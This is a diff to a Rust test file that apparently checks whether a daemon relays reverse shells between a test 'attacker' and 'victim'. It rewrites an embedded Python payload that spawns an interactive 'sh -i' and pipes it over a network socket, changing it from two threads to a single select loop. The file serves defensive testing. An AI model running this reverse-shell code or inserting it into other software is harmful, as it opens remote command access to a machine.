@@ -17,18 +17,19 @@ fn script(interpreter: &str, option: &str, text: &str, expected: &Relayed) {
     prove_relayed(Daemon::shared(), attacker.accept(), victim, &[attacker.port()], expected);
 }
 
-const PYTHON_PIPES: &str = "import subprocess,threading\n\
+/// One thread: a TLS connection must not be used by two.
+const PYTHON_PIPES: &str = "import subprocess,select\n\
     p=subprocess.Popen(['sh','-i'],stdin=subprocess.PIPE,stdout=subprocess.PIPE,stderr=subprocess.STDOUT,bufsize=0)\n\
-    def up():\n\
-    \x20while True:\n\
+    while True:\n\
+    \x20r,_,_=select.select([s,p.stdout],[],[])\n\
+    \x20if s in r:\n\
     \x20 d=s.recv(4096)\n\
     \x20 if not d: break\n\
     \x20 p.stdin.write(d)\n\
-    threading.Thread(target=up,daemon=True).start()\n\
-    while True:\n\
-    \x20d=p.stdout.read(4096)\n\
-    \x20if not d: break\n\
-    \x20s.sendall(d)";
+    \x20if p.stdout in r:\n\
+    \x20 d=p.stdout.read(4096)\n\
+    \x20 if not d: break\n\
+    \x20 s.sendall(d)";
 
 #[test]
 fn python_pipes() {
